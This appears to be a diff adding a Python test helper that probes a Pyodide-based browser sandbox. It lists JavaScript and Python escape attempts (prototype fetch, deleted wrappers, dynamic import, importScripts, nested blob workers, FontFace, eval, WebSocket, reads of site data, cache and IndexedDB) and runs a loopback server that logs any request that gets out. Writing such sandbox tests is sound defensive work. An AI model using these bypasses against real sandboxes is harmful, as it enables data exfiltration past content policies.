@@ -1,0 +1,91 @@
+"""What malice asks for from readers' code in the browser, and a server that hears it."""
+
+import re
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+# The policy refuses eval, but a script of a blob has every right that Python has there. Firefox
+# lets none in where there is no origin: there it runs in a worker of the worker's.
+JS = """\
+import builtins
+import js
+from pyodide.ffi import JsException, create_proxy, to_js
+builtins.heard = []
+def run_js(script):
+    address = js.URL.createObjectURL(js.Blob.new(to_js([script])))
+    try:
+        js.importScripts(address)
+    except JsException:
+        worker = js.Worker.new(address)
+        worker.onmessage = create_proxy(lambda event: builtins.heard.append(event.data.text))
+"""
+REQUESTS = {
+    "fetch_of_the_prototype": "WorkerGlobalScope.prototype.fetch.call(self, 'URL').catch(() => {})",
+    "fetch_uncovered": "delete self.fetch; fetch('URL').catch(() => {})",
+    "import": "import('URL').catch(() => {})",
+    "import_scripts": "try { importScripts('URL') } catch {}",
+    "nested_worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"URL\")']))) }"
+    " catch {}",
+    "nested_worker_elsewhere": "try { new Worker('URL') } catch {}",
+    "font": "new FontFace('x', 'url(URL)').load().catch(() => {})",
+    "eval": "try { eval('fetch(\"URL\")') } catch {}",
+    "socket": "try { new (Object.getOwnPropertyDescriptor(self, 'WebSocket').value ?? Object)"
+    "('URL') } catch {}",
+    "module_of_a_blob": "import(URL.createObjectURL(new Blob(['import \"URL\"'],"
+    " {type: 'text/javascript'}))).catch(() => {})",
+    "a_page_of_ours": "WorkerGlobalScope.prototype.fetch.call(self, 'SITE').then((a) => a.text())"
+    ".then((text) => postMessage({type: 'output', stream: 'out', text: 'rea' + 'ched ' + text}))"
+    ".catch(() => {})",
+    "cache": "try { caches.open('x').then(() => postMessage({type: 'output', stream: 'out',"
+    " text: 'rea' + 'ched'})).catch(() => {}) } catch {}",
+    "database": "try { indexedDB.open('x').onsuccess = () => postMessage({type: 'output',"
+    " stream: 'out', text: 'rea' + 'ched'}) } catch {}",
+    "lock_of_a_page": "try { new BroadcastChannel('x').postMessage('x') } catch {}",
+}
+
+FROM_PYTHON = {
+    "fetch_from_python": "js.WorkerGlobalScope.prototype.fetch.call(js.self, URL)",
+    "font_from_python": "js.FontFace.new('x', f'url({URL})').load()",
+    "worker_from_python": "js.Worker.new(URL)",
+    "scripts_from_python": "js.importScripts(URL)",
+    "fetch_of_pyodide": "__import__('pyodide.http').http.pyfetch(URL).send(None)",
+    "open_url_of_pyodide": "__import__('pyodide.http').http.open_url(URL)",
+}
+
+
+def requests(elsewhere: str, site: str) -> dict[str, str]:
+    """Return every attempt as Python code, to reach the server ``elsewhere`` or ``site``'s data."""
+    scripts = {
+        name: re.sub(r"\bURL\b(?!\.)", elsewhere + name, attempt).replace("SITE", site)
+        for name, attempt in REQUESTS.items()
+    }
+    python = {
+        name: f"try:\n    {attempt.replace('URL', repr(elsewhere + name))}\n"
+        "except Exception:\n    pass\n"
+        for name, attempt in FROM_PYTHON.items()
+    }
+    return {name: f"run_js({script!r})\n" for name, script in scripts.items()} | python
+
+
+@contextmanager
+def another_server() -> Iterator[tuple[str, list[str]]]:
+    """Serve on loopback; yield the address, and every path that is asked for there."""
+    asked: list[str] = []
+
+    class Log(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.end_headers()
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Log) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}/", asked
+        server.shutdown()
